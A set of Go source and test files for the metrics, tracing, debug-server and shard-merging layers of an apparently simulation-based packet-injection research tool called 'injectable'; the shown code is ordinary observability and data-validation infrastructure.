			Outcome: tc.outcome, WindowSeen: true,
			TimingMarginUS: 10, WindowWidthUS: 60,
			Captured: true, Delivered: false, CRCState: CRCStateOK,
		}
		if tc.mutate != nil {
			tc.mutate(&rec)
		}
		if got := missReason(rec); got != tc.want {
			t.Errorf("%s: missReason = %q, want %q", tc.name, got, tc.want)
		}
	}
}

func TestLedgerAbortAndWindowBuffering(t *testing.T) {
	l := NewLedger()
	// Latest window per device wins.
	l.LinkWindowOpen("bulb", 1, 3, sim.Time(100), 10)
	l.LinkWindowOpen("bulb", 2, 5, sim.Time(200), 20)
	l.BeginAttempt(AttemptStart{Attempt: 1, Event: 2, Channel: 5, TxStart: sim.Time(210), TxEnd: sim.Time(260)})
	l.Abort("connection-lost")
	recs := l.Records()
	if len(recs) != 1 || recs[0].Outcome != "connection-lost" {
		t.Fatalf("abort record = %+v", recs)
	}
	if !recs[0].WindowSeen || recs[0].WindowOpenUS != us(sim.Time(200)) {
		t.Fatalf("latest window not used: %+v", recs[0])
	}
	// Abort with nothing open is a no-op.
	l.Abort("x")
	if len(l.Records()) != 1 {
		t.Fatalf("abort on empty ledger appended a record")
	}
}

func TestLedgerSummary(t *testing.T) {
	l := NewLedger()
	driveAttempt(l, AttemptEnd{Outcome: "success", SlaveResponded: true, ResponseValid: true})
	var b bytes.Buffer
	if err := l.WriteSummary(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{"1 attempts", "hits=1 misses=0", "event=42", "ch=7"} {
		if !strings.Contains(out, want) {
			t.Fatalf("summary missing %q:\n%s", want, out)
		}
	}
}
