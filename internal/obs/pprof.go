package obs

import (
	"encoding/json"
	"net"
	"net/http"
	"net/http/pprof"
	"runtime/metrics"
)

// DebugServer serves net/http/pprof profiles and a runtime-metrics dump
// for live inspection of long simulation campaigns.
type DebugServer struct {
	lis net.Listener
	srv *http.Server
}

// StartDebugServer listens on addr (e.g. "localhost:6060", or ":0" for
// an ephemeral port) and serves:
//
//	/debug/pprof/...   the standard pprof endpoints
//	/debug/runtime     all runtime/metrics samples as JSON
//
// The server runs on its own goroutine until Close.
func StartDebugServer(addr string) (*DebugServer, error) {
	mux := http.NewServeMux()
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.HandleFunc("/debug/runtime", serveRuntimeMetrics)

	lis, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	srv := &http.Server{Handler: mux}
	go srv.Serve(lis) //nolint:errcheck // Serve always returns on Close
	return &DebugServer{lis: lis, srv: srv}, nil
}

// Addr returns the address the server is listening on.
func (d *DebugServer) Addr() string { return d.lis.Addr().String() }

// Close shuts the server down.
func (d *DebugServer) Close() error { return d.srv.Close() }

// serveRuntimeMetrics dumps every runtime/metrics sample as JSON.
func serveRuntimeMetrics(w http.ResponseWriter, _ *http.Request) {
	descs := metrics.All()
	samples := make([]metrics.Sample, len(descs))
	for i, d := range descs {
		samples[i].Name = d.Name
	}
	metrics.Read(samples)

	out := make(map[string]any, len(samples))
	for _, s := range samples {
		switch s.Value.Kind() {
		case metrics.KindUint64:
			out[s.Name] = s.Value.Uint64()
		case metrics.KindFloat64:
			out[s.Name] = s.Value.Float64()
		case metrics.KindFloat64Histogram:
			h := s.Value.Float64Histogram()
			out[s.Name] = map[string]any{"buckets": h.Buckets, "counts": h.Counts}
		}
	}
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(out) //nolint:errcheck
}
