package obs

import (
	"reflect"
	"testing"

	"injectable/internal/sim"
)

func TestRegistryAbsorbMatchesDirectRecording(t *testing.T) {
	record := func(r *Registry) {
		r.Counter("hits").Add(3)
		r.Counter("misses").Inc()
		r.Gauge("jitter").Set(2.5)
		h := r.Histogram("lat", LinearBuckets(1, 1, 4))
		h.Observe(0.5)
		h.Observe(2.2)
		h.Observe(99)
	}

	direct := NewRegistry()
	record(direct)
	record(direct)

	sink := NewRegistry()
	for i := 0; i < 2; i++ {
		private := NewRegistry()
		record(private)
		sink.Absorb(private)
	}

	if !reflect.DeepEqual(sink.Snapshot(), direct.Snapshot()) {
		t.Fatalf("absorbed snapshot differs:\n%+v\nwant\n%+v", sink.Snapshot(), direct.Snapshot())
	}
}

func TestRegistryAbsorbGaugeUnsetDoesNotClobber(t *testing.T) {
	sink := NewRegistry()
	sink.Gauge("g").Set(7)
	src := NewRegistry()
	src.Gauge("g") // registered but never set
	sink.Absorb(src)
	if v := sink.Gauge("g").Value(); v != 7 {
		t.Fatalf("gauge clobbered by unset source: %v", v)
	}
	src.Gauge("g").Set(9)
	sink.Absorb(src)
	if v := sink.Gauge("g").Value(); v != 9 {
		t.Fatalf("gauge not adopted from set source: %v", v)
	}
}

func TestRegistryAbsorbHistogramQuantiles(t *testing.T) {
	sink := NewRegistry()
	a := NewRegistry()
	for _, v := range []float64{1, 2, 3} {
		a.Histogram("h", LinearBuckets(0, 1, 10)).Observe(v)
	}
	b := NewRegistry()
	for _, v := range []float64{7, 8} {
		b.Histogram("h", LinearBuckets(0, 1, 10)).Observe(v)
	}
	sink.Absorb(a)
	sink.Absorb(b)
	h := sink.Histogram("h", LinearBuckets(0, 1, 10))
	if h.Count() != 5 {
		t.Fatalf("count=%d, want 5", h.Count())
	}
	if min, max := h.min.load(), h.max.load(); min != 1 || max != 8 {
		t.Fatalf("min=%v max=%v, want 1 8", min, max)
	}
}

func TestLedgerAbsorbAppendsRecordsAndWindows(t *testing.T) {
	src := NewLedger()
	src.LinkWindowOpen("slave", 10, 3, 1000, 50)
	src.BeginAttempt(AttemptStart{Attempt: 1, Event: 10, Channel: 3, TxStart: 1010, TxEnd: 1020})
	src.EndAttempt(AttemptEnd{Outcome: "success"})

	sink := NewLedger()
	sink.Absorb(src)
	if n := len(sink.Records()); n != 1 {
		t.Fatalf("records=%d, want 1", n)
	}
	// Windows carried over: a later attempt on the sink still correlates.
	sink.BeginAttempt(AttemptStart{Attempt: 2, Event: 10, Channel: 3, TxStart: 2010, TxEnd: 2020})
	rec := sink.EndAttempt(AttemptEnd{Outcome: "no-response"})
	if !rec.WindowSeen || rec.WindowDevice != "slave" {
		t.Fatalf("window not carried over: %+v", rec)
	}
}

func TestHubAbsorbNilSafe(t *testing.T) {
	var nilHub *Hub
	nilHub.Absorb(NewHub()) // must not panic
	h := NewHub()
	h.Absorb(nil)
	src := NewHub()
	src.Registry.Counter("c").Inc()
	src.SpanLog.Add(Mark("t", "mark"))
	src.Ledger.BeginAttempt(AttemptStart{Attempt: 1})
	src.Ledger.EndAttempt(AttemptEnd{Outcome: "success"})
	h.Absorb(src)
	if h.Registry.Counter("c").Value() != 1 {
		t.Fatal("counter not absorbed")
	}
	if len(h.Ledger.Records()) != 1 {
		t.Fatal("ledger not absorbed")
	}
	if len(h.SpanLog.Snapshot()) != 1 {
		t.Fatal("spans not absorbed")
	}
	_ = sim.Time(0) // keep the sim import anchored to the ledger's time base
}
