package obs

import (
	"math"
	"sync"
	"testing"
)

func TestCounterAndGauge(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("a.count")
	c.Inc()
	c.Add(4)
	if got := c.Value(); got != 5 {
		t.Fatalf("counter = %d, want 5", got)
	}
	if r.Counter("a.count") != c {
		t.Fatalf("Counter did not return the registered handle")
	}
	g := r.Gauge("a.gauge")
	g.Set(2.5)
	g.Set(-1)
	if got := g.Value(); got != -1 {
		t.Fatalf("gauge = %v, want -1", got)
	}
}

func TestHistogramBucketsAndAggregates(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("h", LinearBuckets(0, 10, 3)) // bounds 0,10,20
	for _, v := range []float64{-5, 5, 15, 25, 10} {
		h.Observe(v)
	}
	s := r.Snapshot()
	if len(s.Histograms) != 1 {
		t.Fatalf("histograms = %d, want 1", len(s.Histograms))
	}
	hs := s.Histograms[0]
	if hs.Count != 5 {
		t.Fatalf("count = %d, want 5", hs.Count)
	}
	if hs.Min != -5 || hs.Max != 25 {
		t.Fatalf("min/max = %v/%v, want -5/25", hs.Min, hs.Max)
	}
	if hs.Sum != 50 {
		t.Fatalf("sum = %v, want 50", hs.Sum)
	}
	// Buckets: (-inf,0] (0,10] (10,20] overflow — sort.SearchFloat64s puts
	// v on the first bound >= v.
	wantCounts := []int64{1, 2, 1, 1}
	for i, w := range wantCounts {
		if hs.Counts[i] != w {
			t.Fatalf("bucket %d = %d, want %d (counts %v)", i, hs.Counts[i], w, hs.Counts)
		}
	}
}

func TestHistogramQuantileExactForSmallN(t *testing.T) {
	r := NewRegistry()
	h := r.Histogram("h", LinearBuckets(0, 1, 50))
	h.Observe(7)
	s := r.Snapshot().Histograms[0]
	for _, q := range []float64{0, 0.5, 1} {
		if got := s.Quantile(q); got != 7 {
			t.Fatalf("quantile(%v) = %v, want 7", q, got)
		}
	}
}

func TestBucketHelpers(t *testing.T) {
	lin := LinearBuckets(2, 3, 4)
	want := []float64{2, 5, 8, 11}
	for i := range want {
		if lin[i] != want[i] {
			t.Fatalf("LinearBuckets = %v, want %v", lin, want)
		}
	}
	exp := ExponentialBuckets(1, 2, 4)
	want = []float64{1, 2, 4, 8}
	for i := range want {
		if exp[i] != want[i] {
			t.Fatalf("ExponentialBuckets = %v, want %v", exp, want)
		}
	}
}

func TestSnapshotSortedAndMerge(t *testing.T) {
	r := NewRegistry()
	r.Counter("z").Add(1)
	r.Counter("a").Add(2)
	r.Gauge("g").Set(3)
	s := r.Snapshot()
	if s.Counters[0].Name != "a" || s.Counters[1].Name != "z" {
		t.Fatalf("snapshot not name-sorted: %+v", s.Counters)
	}

	r2 := NewRegistry()
	r2.Counter("z").Add(10)
	r2.Counter("m").Add(5)
	r2.Gauge("g").Set(9)
	s.Merge(r2.Snapshot())
	byName := map[string]int64{}
	for _, c := range s.Counters {
		byName[c.Name] = c.Value
	}
	if byName["a"] != 2 || byName["m"] != 5 || byName["z"] != 11 {
		t.Fatalf("merged counters = %v", byName)
	}
	if s.Gauges[0].Value != 9 {
		t.Fatalf("merged gauge = %v, want 9 (last wins)", s.Gauges[0].Value)
	}
	// Merging nil is a no-op.
	before := len(s.Counters)
	s.Merge(nil)
	if len(s.Counters) != before {
		t.Fatalf("merge(nil) changed the snapshot")
	}
}

func TestHistogramMergeSumsBuckets(t *testing.T) {
	mk := func(vals ...float64) *Snapshot {
		r := NewRegistry()
		h := r.Histogram("h", LinearBuckets(0, 10, 3))
		for _, v := range vals {
			h.Observe(v)
		}
		return r.Snapshot()
	}
	a, b := mk(5, 15), mk(25, -3)
	a.Merge(b)
	hs := a.Histograms[0]
	if hs.Count != 4 || hs.Min != -3 || hs.Max != 25 {
		t.Fatalf("merged hist count/min/max = %d/%v/%v", hs.Count, hs.Min, hs.Max)
	}
	total := int64(0)
	for _, c := range hs.Counts {
		total += c
	}
	if total != 4 {
		t.Fatalf("merged bucket total = %d, want 4", total)
	}
}

func TestHotPathDoesNotAllocate(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("c")
	h := r.Histogram("h", LinearBuckets(0, 1, 30))
	g := r.Gauge("g")
	if n := testing.AllocsPerRun(100, func() {
		c.Inc()
		g.Set(1.5)
		h.Observe(12.3)
	}); n != 0 {
		t.Fatalf("hot path allocated %.1f times per op, want 0", n)
	}
}

func TestNilReceiversNoOp(t *testing.T) {
	var h *Hub
	h.Reg().Counter("x").Inc()
	h.Reg().Gauge("y").Set(1)
	h.Reg().Histogram("z", LinearBuckets(0, 1, 2)).Observe(3)
	h.Led().BeginAttempt(AttemptStart{})
	h.BeginAttempt(AttemptStart{})
	if rec := h.EndAttempt(AttemptEnd{}, 0); rec != nil {
		t.Fatalf("nil hub EndAttempt = %+v, want nil", rec)
	}
	h.AbortAttempt("x")
	if s := h.Snapshot(); s == nil || len(s.Counters) != 0 {
		t.Fatalf("nil hub snapshot = %+v, want empty", s)
	}
}

// TestRegistryConcurrent exercises the registry the way campaign workers
// do — concurrent get-or-create plus hot-path updates plus snapshots —
// and relies on -race to catch unsynchronised access.
func TestRegistryConcurrent(t *testing.T) {
	r := NewRegistry()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				r.Counter("shared.count").Inc()
				r.Histogram("shared.hist", LinearBuckets(0, 1, 10)).Observe(float64(i % 12))
				r.Gauge("shared.gauge").Set(float64(i))
				if i%100 == 0 {
					_ = r.Snapshot()
				}
			}
		}()
	}
	wg.Wait()
	s := r.Snapshot()
	var c int64
	for _, cs := range s.Counters {
		if cs.Name == "shared.count" {
			c = cs.Value
		}
	}
	if c != 8*500 {
		t.Fatalf("concurrent counter = %d, want %d", c, 8*500)
	}
	for _, hs := range s.Histograms {
		if hs.Count != 8*500 {
			t.Fatalf("concurrent histogram count = %d, want %d", hs.Count, 8*500)
		}
		if math.IsNaN(hs.Sum) {
			t.Fatalf("histogram sum is NaN")
		}
	}
}
