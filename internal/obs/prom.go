package obs

import (
	"bufio"
	"fmt"
	"io"
	"math"
	"strconv"
	"strings"
)

// This file renders a Snapshot in the Prometheus text exposition format
// (version 0.0.4) so any scrape-based collector can consume the fleet's
// metrics without a translation sidecar, and provides the strict parser
// CI uses to validate the exposition end to end.
//
// Registry instrument names map onto Prometheus series like this:
//
//   - Characters outside [a-zA-Z0-9_:] in the base name become '_', so
//     "serve.queue_depth" renders as "serve_queue_depth".
//   - A name may carry an inline label set, "serve.http_errors{code="429"}";
//     the suffix becomes the series' labels with values re-escaped per the
//     exposition rules. Malformed label suffixes fall back to sanitizing
//     the whole name (braces become '_') so rendering never fails on a
//     hostile instrument name.
//   - Histograms expand into the conventional _bucket (cumulative, with a
//     final le="+Inf"), _sum and _count series.
//
// The snapshot is name-sorted, so the rendered bytes are deterministic —
// the golden test pins the exact layout.

// PromContentType is the Content-Type of the text exposition format.
const PromContentType = "text/plain; version=0.0.4; charset=utf-8"

// promLabel is one rendered label pair. Value holds the unescaped text.
type promLabel struct {
	Name  string
	Value string
}

// WritePromText renders the snapshot in Prometheus text exposition
// format: one "# TYPE" header per metric family followed by its samples,
// counters first, then gauges, then histograms, each group in the
// snapshot's name-sorted order. It fails if two instruments collide on
// the same family name after sanitization (e.g. a counter "a.b" next to
// a gauge "a_b") — a collision would make the exposition ambiguous.
func WritePromText(w io.Writer, snap *Snapshot) error {
	bw := bufio.NewWriter(w)
	seen := map[string]string{} // family name -> type
	declare := func(name, typ string) error {
		if prev, ok := seen[name]; ok {
			if prev != typ {
				return fmt.Errorf("obs: prom family %q declared as both %s and %s", name, prev, typ)
			}
			return nil
		}
		seen[name] = typ
		_, err := fmt.Fprintf(bw, "# TYPE %s %s\n", name, typ)
		return err
	}

	for _, c := range snap.Counters {
		base, labels := splitInstrumentName(c.Name)
		if err := declare(base, "counter"); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(bw, "%s %d\n", promSeries(base, labels), c.Value); err != nil {
			return err
		}
	}
	for _, g := range snap.Gauges {
		base, labels := splitInstrumentName(g.Name)
		if err := declare(base, "gauge"); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(bw, "%s %s\n", promSeries(base, labels), promFloat(g.Value)); err != nil {
			return err
		}
	}
	for _, h := range snap.Histograms {
		base, labels := splitInstrumentName(h.Name)
		if err := declare(base, "histogram"); err != nil {
			return err
		}
		cum := int64(0)
		for i, bound := range h.Bounds {
			cum += h.Counts[i]
			le := append(append([]promLabel{}, labels...), promLabel{"le", promFloat(bound)})
			if _, err := fmt.Fprintf(bw, "%s %d\n", promSeries(base+"_bucket", le), cum); err != nil {
				return err
			}
		}
		if len(h.Counts) > 0 {
			cum += h.Counts[len(h.Counts)-1]
		}
		inf := append(append([]promLabel{}, labels...), promLabel{"le", "+Inf"})
		if _, err := fmt.Fprintf(bw, "%s %d\n", promSeries(base+"_bucket", inf), cum); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(bw, "%s %s\n", promSeries(base+"_sum", labels), promFloat(h.Sum)); err != nil {
			return err
		}
		if _, err := fmt.Fprintf(bw, "%s %d\n", promSeries(base+"_count", labels), h.Count); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// promSeries renders "name{k="v",...}" with escaped label values.
func promSeries(name string, labels []promLabel) string {
	if len(labels) == 0 {
		return name
	}
	var b strings.Builder
	b.WriteString(name)
	b.WriteByte('{')
	for i, l := range labels {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Name)
		b.WriteString(`="`)
		b.WriteString(escapeLabelValue(l.Value))
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

// promFloat renders a float the way the exposition format expects.
func promFloat(v float64) string {
	switch {
	case math.IsInf(v, 1):
		return "+Inf"
	case math.IsInf(v, -1):
		return "-Inf"
	case math.IsNaN(v):
		return "NaN"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// escapeLabelValue applies the exposition escaping: backslash, double
// quote and newline.
func escapeLabelValue(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch r {
		case '\\':
			b.WriteString(`\\`)
		case '"':
			b.WriteString(`\"`)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// splitInstrumentName separates a registry instrument name into its
// sanitized Prometheus base name and inline labels. A name without a
// well-formed {k="v",...} suffix sanitizes wholesale.
func splitInstrumentName(name string) (string, []promLabel) {
	open := strings.IndexByte(name, '{')
	if open > 0 && strings.HasSuffix(name, "}") {
		if labels, ok := parseInlineLabels(name[open+1 : len(name)-1]); ok {
			return promName(name[:open]), labels
		}
	}
	return promName(name), nil
}

// parseInlineLabels parses `k="v",k2="v2"` from an instrument name. The
// values use the same escaping as the exposition format.
func parseInlineLabels(s string) ([]promLabel, bool) {
	var labels []promLabel
	for len(s) > 0 {
		eq := strings.Index(s, `="`)
		if eq <= 0 {
			return nil, false
		}
		name := s[:eq]
		if !validLabelName(name) {
			return nil, false
		}
		rest := s[eq+2:]
		val, n, ok := unescapeLabelValue(rest)
		if !ok {
			return nil, false
		}
		labels = append(labels, promLabel{name, val})
		s = rest[n:]
		if len(s) == 0 {
			break
		}
		if s[0] != ',' {
			return nil, false
		}
		s = s[1:]
	}
	return labels, len(labels) > 0
}

// unescapeLabelValue consumes an escaped label value up to its closing
// quote, returning the unescaped text and how many input bytes were used
// (including the closing quote).
func unescapeLabelValue(s string) (string, int, bool) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			return b.String(), i + 1, true
		case '\\':
			if i+1 >= len(s) {
				return "", 0, false
			}
			i++
			switch s[i] {
			case '\\':
				b.WriteByte('\\')
			case '"':
				b.WriteByte('"')
			case 'n':
				b.WriteByte('\n')
			default:
				return "", 0, false
			}
		case '\n':
			return "", 0, false
		default:
			b.WriteByte(s[i])
		}
	}
	return "", 0, false
}

// promName sanitizes a base metric name to [a-zA-Z_:][a-zA-Z0-9_:]*.
func promName(s string) string {
	if s == "" {
		return "_"
	}
	var b strings.Builder
	for i, r := range s {
		switch {
		case r == '_' || r == ':' ||
			(r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z'):
			b.WriteRune(r)
		case r >= '0' && r <= '9':
			if i == 0 {
				b.WriteByte('_')
			}
			b.WriteRune(r)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}

// validLabelName reports whether s is a legal Prometheus label name.
func validLabelName(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		alpha := r == '_' || (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z')
		if !alpha && !(i > 0 && r >= '0' && r <= '9') {
			return false
		}
	}
	return true
}
