package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"time"

	"injectable/internal/sim"
)

// chromeEvent is one entry of the Chrome trace_event format (the JSON
// Array/Object format understood by chrome://tracing and Perfetto).
// Timestamps and durations are in microseconds.
type chromeEvent struct {
	Name string            `json:"name"`
	Ph   string            `json:"ph"`
	TS   float64           `json:"ts"`
	Dur  float64           `json:"dur,omitempty"`
	PID  int               `json:"pid"`
	TID  int               `json:"tid"`
	S    string            `json:"s,omitempty"`
	Args map[string]string `json:"args,omitempty"`
}

type chromeTrace struct {
	TraceEvents     []chromeEvent     `json:"traceEvents"`
	DisplayTimeUnit string            `json:"displayTimeUnit"`
	OtherData       map[string]string `json:"otherData,omitempty"`
}

// WriteChromeTrace renders recorded simulation trace events (and, when
// a ledger is supplied, its injection attempts as duration slices on a
// dedicated track) in Chrome trace_event format. Each event source gets
// its own thread track, in order of first appearance. dropped is the
// number of events lost to a bounded recording buffer; it is surfaced
// in the trace metadata.
func WriteChromeTrace(w io.Writer, events []sim.TraceEvent, dropped int, ledger *Ledger) error {
	const pid = 1
	trace := chromeTrace{DisplayTimeUnit: "ms", TraceEvents: []chromeEvent{}}
	if dropped > 0 {
		trace.OtherData = map[string]string{"droppedEvents": fmt.Sprintf("%d", dropped)}
	}

	tids := map[string]int{}
	tid := func(source string) int {
		id, ok := tids[source]
		if !ok {
			id = len(tids) + 1
			tids[source] = id
			trace.TraceEvents = append(trace.TraceEvents, chromeEvent{
				Name: "thread_name", Ph: "M", PID: pid, TID: id,
				Args: map[string]string{"name": source},
			})
		}
		return id
	}

	for _, e := range events {
		ce := chromeEvent{
			Name: e.Kind, PID: pid, TID: tid(e.Source),
			TS:   us(e.At),
			Args: stringifyFields(e.Fields),
		}
		if d, ok := eventSpan(e); ok {
			ce.Ph, ce.Dur = "X", dus(d)
		} else {
			ce.Ph, ce.S = "i", "t"
		}
		trace.TraceEvents = append(trace.TraceEvents, ce)
	}

	for _, r := range ledger.Records() {
		name := r.Outcome
		if r.MissReason != "" {
			name += ":" + r.MissReason
		}
		trace.TraceEvents = append(trace.TraceEvents, chromeEvent{
			Name: name, Ph: "X", PID: pid, TID: tid("injection-ledger"),
			TS: r.TxStartUS, Dur: r.TxEndUS - r.TxStartUS,
			Args: map[string]string{
				"attempt":          fmt.Sprintf("%d", r.Attempt),
				"event":            fmt.Sprintf("%d", r.Event),
				"ch":               fmt.Sprintf("%d", r.Channel),
				"timing_margin_us": fmt.Sprintf("%.3f", r.TimingMarginUS),
				"crc":              r.CRCState,
			},
		})
	}

	enc := json.NewEncoder(w)
	return enc.Encode(trace)
}

// eventSpan extracts an on-air/window duration from trace events that
// carry one: "tx-start" has an absolute "end" time, "win-open" a
// "width" duration (rendered as a string by the link layer).
func eventSpan(e sim.TraceEvent) (sim.Duration, bool) {
	switch e.Kind {
	case "tx-start":
		if v, ok := e.Field("end"); ok {
			if end, ok := v.(sim.Time); ok && end > e.At {
				return end.Sub(e.At), true
			}
		}
	case "win-open":
		v, _ := e.Field("width")
		switch v := v.(type) {
		case sim.Duration:
			return v, true
		case string:
			if d, err := time.ParseDuration(v); err == nil {
				return sim.Duration(d.Nanoseconds()), true
			}
		}
	}
	return 0, false
}

// stringifyFields renders trace fields as deterministic string args.
func stringifyFields(fields []sim.Field) map[string]string {
	if len(fields) == 0 {
		return nil
	}
	out := make(map[string]string, len(fields))
	for _, f := range fields {
		out[f.K] = fmt.Sprint(f.V)
	}
	return out
}
