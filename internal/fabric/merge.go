package fabric

import (
	"bytes"
	"encoding/json"
	"fmt"

	"injectable/internal/campaign"
)

// shardFrame is the subset of the per-shard NDJSON frame lines the
// coordinator inspects before trusting a worker's stream.
type shardFrame struct {
	Kind   string `json:"kind"`
	Trials int    `json:"trials"`
	Ok     int    `json:"ok"`
	Failed int    `json:"failed"`
}

// splitShardStream validates one worker's NDJSON stream for a shard and
// strips its frame: the first line must be a "campaign" header, the last
// a complete "end" trailer whose trial count matches the shard (a
// cancelled or torn stream is a prefix and fails here, turning into a
// redispatch instead of a silently short merge). It returns the payload
// — the result lines between the frame — plus the trailer tallies.
func splitShardStream(stream []byte, wantTrials int) (payload []byte, ok, failed int, err error) {
	head := bytes.IndexByte(stream, '\n')
	if head < 0 {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream has no header line (%d bytes)", len(stream))
	}
	var hdr shardFrame
	if jerr := json.Unmarshal(stream[:head], &hdr); jerr != nil || hdr.Kind != "campaign" {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream does not open with a campaign header: %.80q", stream[:head])
	}
	if stream[len(stream)-1] != '\n' {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream ends mid-line (torn worker stream)")
	}
	tail := bytes.LastIndexByte(stream[:len(stream)-1], '\n')
	if tail < head {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream has no trailer line")
	}
	var end shardFrame
	if jerr := json.Unmarshal(stream[tail+1:], &end); jerr != nil || end.Kind != "end" {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream does not close with an end trailer: %.80q", stream[tail+1:])
	}
	if end.Trials != wantTrials {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream holds %d trials, want %d (worker cancelled mid-shard?)",
			end.Trials, wantTrials)
	}
	return stream[head+1 : tail+1], end.Ok, end.Failed, nil
}

// splitBinaryShard is splitShardStream for the binary trial-record
// format workers now stream: it CRC-validates the frame walk, strips
// the header and end frames, and checks the trailer's trial count
// against the shard (a cancelled worker yields a torn stream, which the
// frame walk rejects — a redispatch, never a silently short merge). The
// returned payload aliases stream and is raw result frames the merger
// concatenates without decoding a single record.
func splitBinaryShard(stream []byte, wantTrials int) (payload []byte, ok, failed int, err error) {
	_, payload, tallies, err := campaign.SplitBinaryStream(stream)
	if err != nil {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream rejected: %w", err)
	}
	if tallies.Trials != wantTrials {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream holds %d trials, want %d (worker cancelled mid-shard?)",
			tallies.Trials, wantTrials)
	}
	return payload, tallies.OK, tallies.Failed, nil
}

// normalizeShardBody upgrades a checkpointed shard body to the binary
// result-frame form the merger works in. Journals written before the
// binary codec hold NDJSON result lines — those always open with '{',
// a byte no binary frame starts with ('R' = 0x52) — so resume keeps
// working across the format change instead of recomputing the fleet's
// finished shards.
func normalizeShardBody(body []byte) ([]byte, error) {
	if len(body) == 0 || body[0] != '{' {
		return body, nil
	}
	out := make([]byte, 0, len(body))
	for _, line := range bytes.Split(body, []byte{'\n'}) {
		if len(line) == 0 {
			continue
		}
		rec, err := campaign.ParseNDJSONResult(line)
		if err != nil {
			return nil, fmt.Errorf("fabric: upgrading journaled NDJSON shard body: %w", err)
		}
		out = campaign.AppendBinaryRecord(out, rec)
	}
	return out, nil
}
