package fabric

import (
	"bytes"
	"encoding/json"
	"fmt"
)

// shardFrame is the subset of the per-shard NDJSON frame lines the
// coordinator inspects before trusting a worker's stream.
type shardFrame struct {
	Kind   string `json:"kind"`
	Trials int    `json:"trials"`
	Ok     int    `json:"ok"`
	Failed int    `json:"failed"`
}

// splitShardStream validates one worker's NDJSON stream for a shard and
// strips its frame: the first line must be a "campaign" header, the last
// a complete "end" trailer whose trial count matches the shard (a
// cancelled or torn stream is a prefix and fails here, turning into a
// redispatch instead of a silently short merge). It returns the payload
// — the result lines between the frame — plus the trailer tallies.
func splitShardStream(stream []byte, wantTrials int) (payload []byte, ok, failed int, err error) {
	head := bytes.IndexByte(stream, '\n')
	if head < 0 {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream has no header line (%d bytes)", len(stream))
	}
	var hdr shardFrame
	if jerr := json.Unmarshal(stream[:head], &hdr); jerr != nil || hdr.Kind != "campaign" {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream does not open with a campaign header: %.80q", stream[:head])
	}
	if stream[len(stream)-1] != '\n' {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream ends mid-line (torn worker stream)")
	}
	tail := bytes.LastIndexByte(stream[:len(stream)-1], '\n')
	if tail < head {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream has no trailer line")
	}
	var end shardFrame
	if jerr := json.Unmarshal(stream[tail+1:], &end); jerr != nil || end.Kind != "end" {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream does not close with an end trailer: %.80q", stream[tail+1:])
	}
	if end.Trials != wantTrials {
		return nil, 0, 0, fmt.Errorf("fabric: shard stream holds %d trials, want %d (worker cancelled mid-shard?)",
			end.Trials, wantTrials)
	}
	return stream[head+1 : tail+1], end.Ok, end.Failed, nil
}
