package fabric

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"sort"
	"sync"
	"time"

	"injectable/internal/obs"
	"injectable/internal/serve"
)

// This file is the coordinator's live observability surface. Two pieces
// compose it:
//
//   - Status: a mutex-protected shard/worker state machine the dispatch
//     loop updates in place. It answers "where is shard 7 right now" —
//     something scraping workers can never reconstruct, because a shard's
//     phase (queued, retrying after a worker died, resumed from the
//     journal) only exists in the coordinator's head.
//   - Aggregator: a scraper that polls every worker's /metrics JSON
//     snapshot, folds them with obs.Snapshot.Merge (plus the
//     coordinator's own hub), and serves the fleet-wide view: merged
//     /metrics (JSON and Prometheus text), /v1/fleet (Status + worker
//     health + latency quantiles), and /v1/spans. FleetTrace assembles
//     the cross-process Chrome trace by pulling every worker's spans for
//     one trace id next to the coordinator's own.

// ShardPhase is one shard's position in the dispatch state machine.
type ShardPhase string

const (
	ShardPending  ShardPhase = "pending"  // planned, not yet picked up
	ShardResumed  ShardPhase = "resumed"  // merged from the journal, never dispatched
	ShardRunning  ShardPhase = "running"  // in flight on a worker
	ShardRetrying ShardPhase = "retrying" // failed, queued for redispatch
	ShardDone     ShardPhase = "done"     // payload validated and merged
)

// ShardStatus is one shard's live state.
type ShardStatus struct {
	Index    int        `json:"index"`
